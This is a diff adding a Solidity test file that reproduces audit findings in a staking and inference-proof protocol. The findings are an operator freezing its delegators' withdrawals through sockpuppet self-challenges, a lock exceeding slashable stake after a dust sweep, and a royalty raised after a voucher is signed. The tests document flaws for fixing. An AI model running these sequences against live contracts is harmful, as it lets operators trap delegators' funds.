@@ -1,0 +1,188 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.28;
+
+import {IStaking} from "@opg/interfaces/IStaking.sol";
+import {Nodes} from "@opg/types/Nodes.sol";
+import {Payments} from "@opg/types/Payments.sol";
+import {Proofs} from "@opg/types/Proofs.sol";
+
+import {Test} from "../utils/Test.sol";
+import {System, SystemDeploy} from "../utils/System.sol";
+
+/// @title Reproductions of what the adversary campaign's review found in the contracts
+/// @notice Each test passes while the behaviour it reproduces is there: it asserts the behaviour, not the fix. See
+/// the findings in test/foundry/README.md.
+contract FindingsTest is Test {
+    System internal s;
+    address internal operator = address(0x0BE7A70E0);
+    address internal delegator = address(0xDE1E9A7E0);
+    address internal puppet = address(0x5BC9);
+    bytes32 internal model = keccak256("model weights");
+    uint256 internal nodeId;
+
+    function setUp() public {
+        s = SystemDeploy.deploy(vm, address(0x7EA5));
+        vm.prank(address(0x30DE1));
+        s.models.registerModel(model, "ipfs://model", 0);
+        address[3] memory accounts = [operator, delegator, puppet];
+        for (uint256 i; i < 3; ++i) {
+            s.token.transfer(accounts[i], 1_000_000e18);
+            vm.startPrank(accounts[i]);
+            s.token.approve(address(s.staking), type(uint256).max);
+            s.token.approve(address(s.proofs), type(uint256).max);
+            vm.stopPrank();
+        }
+        bytes32[] memory served = new bytes32[](1);
+        served[0] = model;
+        vm.startPrank(operator);
+        s.staking.stake(10_000e18);
+        vm.stopPrank();
+        // The operator's node stands on its own stake (the minimum); a large delegation stands behind it too.
+        vm.prank(delegator);
+        s.staking.delegate(operator, 500_000e18, 1_000_000);
+        vm.prank(operator);
+        nodeId = s.nodes.registerNode(Nodes.NodeParams("ipfs://node", 1, bytes32(0), 8, [uint80(1e18), 0, 0]), served);
+    }
+
+    /// @notice Finding 1: an operator freezes its delegators' withdrawals at no cost. It challenges its own (right)
+    /// records from a sockpuppet on the arbiter path: each challenge locks slashPpm (5%) of the whole slashable stake,
+    /// delegated stake included, with no bound on the total, and a rejected or expired challenge pays the bond to the
+    /// operator, that is, back to the coalition. Twenty such challenges lock everything; a delegator whose thaw has
+    /// ended cannot withdraw until the challenges close, and the operator can open new ones before they do.
+    function test_finding_operatorLocksItsDelegatorsForFree() public {
+        uint256 coalitionBefore = s.token.balanceOf(operator) + s.token.balanceOf(puppet);
+        (uint256 shares, , ) = s.staking.getDelegation(operator, delegator);
+        vm.prank(delegator);
+        s.staking.undelegate(operator, shares);
+
+        bytes32[] memory ids = _lockEverything(0);
+        uint256 slashable = s.staking.slashableStakeOf(operator);
+        assertGe(s.staking.lockedStakeOf(operator) + 20, slashable, "twenty self-challenges lock it all");
+
+        // The challenges' deadline (7 days) comes before the end of the delegator's thaw (14 days): the operator
+        // expires them (their bonds come back to it) and, in the same block, opens twenty more on new records.
+        vm.warp(block.timestamp + 7 days + 1);
+        for (uint256 k; k < 20; ++k) s.proofs.expireChallenge(ids[k]);
+        _lockEverything(100);
+        vm.warp(block.timestamp + 7 days);
+        (uint256 thawed, , ) = s.staking.withdrawableOf(delegator, operator);
+        assertGe(thawed, 499_000e18, "the delegator's thaw has ended");
+        bytes memory expected = abi.encodeWithSelector(
+            IStaking.StakingStakeLocked.selector,
+            s.staking.lockedStakeOf(operator),
+            s.staking.slashableStakeOf(operator) - thawed
+        );
+        vm.prank(delegator);
+        vm.expectRevert(expected);
+        s.staking.withdraw(operator, 0);
+
+        // Every expired bond went back to the operator: the freeze cost the coalition nothing but the bonds still
+        // pending, which come back the same way.
+        uint256 pendingBonds = 20 * s.proofs.challengeBond();
+        assertEq(
+            s.token.balanceOf(operator) + s.token.balanceOf(puppet) + pendingBonds,
+            coalitionBefore,
+            "the coalition lost nothing"
+        );
+    }
+
+    /// @notice Finding 1, continued: with everything locked, an upheld slash that empties the operator's thawing pool
+    /// but for its dust (less than a billionth of a token per share) sweeps the dust too, while the lock falls only by
+    /// the slash: `lockedStakeOf` ends above `slashableStakeOf`, and no delegator can withdraw until every challenge
+    /// closes. Own stake 10,000 OPG, delegated 190,000 OPG - 1e14 wei, so that each 5% lock is 5e12 wei short of the
+    /// own stake, which the operator unstakes after the locks; the arbiter upholds one challenge.
+    function test_finding_lockAboveSlashableAfterDustSweep() public {
+        address op = address(0x0BE7A70E1);
+        address d = address(0xDE1E9A7E1);
+        s.token.transfer(op, 10_000e18);
+        s.token.transfer(d, 190_000e18);
+        vm.prank(op);
+        s.token.approve(address(s.staking), type(uint256).max);
+        vm.prank(d);
+        s.token.approve(address(s.staking), type(uint256).max);
+        bytes32[] memory served = new bytes32[](1);
+        served[0] = model;
+        vm.startPrank(op);
+        s.staking.stake(10_000e18);
+        uint256 node = s.nodes.registerNode(
+            Nodes.NodeParams("ipfs://node", 1, bytes32(0), 8, [uint80(1e18), 0, 0]),
+            served
+        );
+        vm.stopPrank();
+        vm.prank(d);
+        s.staking.delegate(op, 190_000e18 - 1e14, 1_000_000);
+
+        bytes32[] memory ids = _lockEverything(op, node, 1_000);
+        vm.prank(op);
+        s.staking.unstake(10_000e18);
+        s.proofs.resolveChallenge(ids[0], true);
+
+        uint256 locked = s.staking.lockedStakeOf(op);
+        uint256 slashable = s.staking.slashableStakeOf(op);
+        assertEq(slashable, 190_000e18 - 1e14, "the slash took all the own stake, its dust swept");
+        assertTrue(locked > slashable, "lockedStakeOf > slashableStakeOf");
+        assertEq(locked - slashable, 5e12, "by the dust swept");
+    }
+
+    /// @notice Finding 2 (observation): a payer that owns the model raises its royalty after signing; a voucher
+    /// redeemed once the increase applies (7 days later, well within the 30-day withdrawal thaw and the voucher's
+    /// life) pays the node less than the terms it was signed under, and the difference goes back to the payer. The
+    /// protocol fee keeps the fee of the signing time for one thawing period (#17.4); the royalty does not.
+    function test_finding_payerOwnedRoyaltyRaisedAfterSigning() public {
+        uint256 payerKey = 0xBAD;
+        address payer = vm.addr(payerKey);
+        bytes32 own = keccak256("the payer's model");
+        s.token.transfer(payer, 1_000e18);
+        vm.startPrank(payer);
+        s.models.registerModel(own, "ipfs://own", 0);
+        s.token.approve(address(s.escrow), type(uint256).max);
+        s.escrow.depositToEscrow(payer, operator, 1_000e18);
+        vm.stopPrank();
+        Payments.Voucher memory v = Payments.Voucher(
+            payer,
+            nodeId,
+            own,
+            Nodes.Mode.None,
+            1_000e18,
+            uint64(block.timestamp),
+            uint64(block.timestamp + 30 days)
+        );
+        (uint8 sv, bytes32 sr, bytes32 ss) = vm.sign(payerKey, s.escrow.voucherDigest(v));
+        uint32 raised = s.models.maxRoyaltyPpm();
+        vm.prank(payer);
+        s.models.setRoyalty(own, raised);
+        vm.warp(block.timestamp + 7 days);
+        vm.prank(operator);
+        s.nodes.heartbeat(nodeId);
+        uint256 credited = s.staking.feesDistributed();
+        s.escrow.redeem(v, abi.encodePacked(sr, ss, sv));
+        // Signed at a 0% royalty and 1% fee: 990 OPG to the node. Paid: 1,000 - 10 - 100.
+        assertEq(s.staking.feesDistributed() - credited, 890e18, "the node's share under the raised royalty");
+        assertEq(s.escrow.royaltiesOf(payer), 100e18, "the payer takes back 10% as the model's owner");
+    }
+
+    /// @dev The operator commits twenty right records and its sockpuppet challenges each on the arbiter path.
+    function _lockEverything(uint256 from) internal returns (bytes32[] memory ids) {
+        return _lockEverything(operator, nodeId, from);
+    }
+
+    function _lockEverything(address op, uint256 node, uint256 from) internal returns (bytes32[] memory ids) {
+        ids = new bytes32[](20);
+        for (uint256 i; i < 20; ++i) {
+            Proofs.Record memory r = _record(from + i);
+            vm.prank(op);
+            s.proofs.commitRecord(node, r);
+            vm.prank(puppet);
+            ids[i] = s.proofs.challenge(node, bytes32(0), r, new bytes32[](0), "no evidence");
+        }
+    }
+
+    function _record(uint256 i) internal view returns (Proofs.Record memory r) {
+        r.inferenceId = bytes32(uint256(keccak256(abi.encode("inference", i))) >> 8);
+        r.modelId = model;
+        r.inputHash = keccak256(abi.encode("input", i));
+        r.outputHash = keccak256(abi.encode("output", i));
+        r.proofType = Nodes.Mode.None;
+        r.proofHash = keccak256(abi.encode("proof", i));
+    }
+}
